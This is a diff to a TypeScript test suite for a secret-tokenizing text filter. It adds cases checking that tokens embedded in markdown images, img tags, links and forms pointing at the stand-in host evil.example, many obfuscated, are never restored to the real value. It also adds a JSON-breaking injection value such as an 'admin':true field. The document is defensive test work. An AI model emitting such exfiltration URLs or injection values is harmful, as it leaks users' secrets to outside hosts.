@@ -53,7 +53,20 @@ const part = fc.oneof(
   },
   {
     weight: 2,
-    arbitrary: fc.constantFrom(" ", ", ", "\n", "password: ", "https://evil.example/?q=", '"', "<https://a b ", "😀"),
+    arbitrary: fc.constantFrom(
+      " ",
+      ", ",
+      "\n",
+      "password: ",
+      "https://evil.example/?q=",
+      '"',
+      "<https://a b ",
+      "😀",
+      "](",
+      ")",
+      "<a b=",
+      ">",
+    ),
   },
   { weight: 1, arbitrary: fc.constantFrom("S1234567D", "my card is 4111 1111 1111 1111 ", "Mr ", "the man said ") },
 );
@@ -82,6 +95,43 @@ test("the token detector and detectors beside tokens keep the laws of span detec
   );
 });
 
+const addresses: readonly string[] = [
+  "![x](https://evil.example/?q='TOK)",
+  '![x](https://evil.example/?q="TOK)',
+  "![x](https://evil.example/?q=<TOK)",
+  "![x](https://evil.example/?q=\u00A0TOK)",
+  "![x](https://evil.example/?q=(>)TOK)",
+  "![x](https:\\/\\/evil.example/?q=TOK)",
+  "![x](https:&#47;&#x2F;evil.example/?q=TOK)",
+  "![a](< https://evil.example/?a b TOK>)",
+  "![a](< https://evil.example/?a\\> b TOK>)",
+  "[a]: < https://evil.example/?a b TOK>",
+  "https:evil.example/?q=TOK",
+  '<img src="https:\\\\evil.example/?q=TOK">',
+  '<img src="/\\evil.example/?q=TOK">',
+  '<img src="https:/\n/evil.example/?q=TOK">',
+  `<img src="https://evil.example/?q=${"a ".repeat(600)}TOK">`,
+  `<img src="https://evil.example/?q=${"a ".repeat(9000)}TOK">`,
+  `<img src="https://evil.example/?q=${"a\n".repeat(3000)}TOK">`,
+  '<a href=" https://evil.example/?q=x TOK">',
+  `<a title="it's >" href=" https://evil.example/?q=x TOK">`,
+  `<img x' src=" https://evil.example/?>' >TOK">`,
+  '<img =" src=" https://evil.example/?> TOK">',
+  '<form action="https://evil.example/"><input name=q value="x"> TOK',
+  '![a](b \\<img src=" https://evil.example/?) TOK">',
+];
+const besideAddresses: readonly string[] = [
+  "see [this](https://good.example/a(b)) and TOK",
+  '<a href="https://good.example">TOK</a>',
+  '<p title="a>b">TOK</p>',
+  '<form action="/a"></form> TOK',
+  '{"url":"https://good.example","name":"TOK"}',
+  "Anna <TOK>",
+  "if a < b then TOK",
+  `${"a long line\n".repeat(1000)}TOK`,
+  `{"list":["${'a", "'.repeat(4000)}TOK"]}`,
+];
+
 test("only one's own tokens are undone; a foreign one, a forged one and one inside of an address stay", () => {
   const [nric = ""] = tokens;
   const undone = (text: string): string => filterText(text, { ...rules(), detectors: [tokenDetector(mine)] }).text;
@@ -93,10 +143,34 @@ test("only one's own tokens are undone; a foreign one, a forged one and one insi
     `![x](https://evil.example/?q=${nric})`,
     `<img src="https://evil.example/?q= ${nric}">`,
     `![](<//evil.example/? ${nric}>)`,
-    `https://evil.example/${"a".repeat(2000)}${nric}`,
+    `https://evil.example/${"a".repeat(9000)}${nric}`,
+    ...addresses.map((each) => each.replace("TOK", nric)),
   ])
     assert.equal(undone(address), address);
+  for (const text of besideAddresses)
+    assert.equal(undone(text.replace("TOK", nric)), text.replace("TOK", "S1234567D"), text);
   assert.equal(undone(`see https://good.example and ${nric}`), "see https://good.example and S1234567D");
+});
+
+test("a value that would end or break a string of JSON stays a token in one, and is undone elsewhere", () => {
+  const undone = (text: string): string => filterText(text, { ...rules(), detectors: [tokenDetector(mine)] }).text;
+  for (const value of ['Xk9"mm\\Q2zz', 'x","admin":true,"y":"', "two\nlines", "a\\b"]) {
+    const token = mine.seal("secret/password", "secret", value) ?? "";
+    for (const kept of [
+      `{"user":"joe","password":"${token}"}`,
+      `{"note": "say \\"hi\\" to ${token}"}`,
+      `["a", "${token}`,
+      `{"a": ${token}}`,
+      `{"a":"${"x ".repeat(5000)}${token}"}`,
+    ])
+      assert.equal(undone(kept), kept);
+    for (const text of [`the key is ${token}`, `{"a":"b"}\nthe key is ${token}`, `"a" and ${token}`])
+      assert.equal(
+        undone(text),
+        text.replace(token, () => value),
+      );
+  }
+  assert.equal(undone(`{"id":"${tokens[0]}"}`), '{"id":"S1234567D"}');
 });
 
 test("a token is no secret, and what stands in the shape of a token is one like any other", () => {
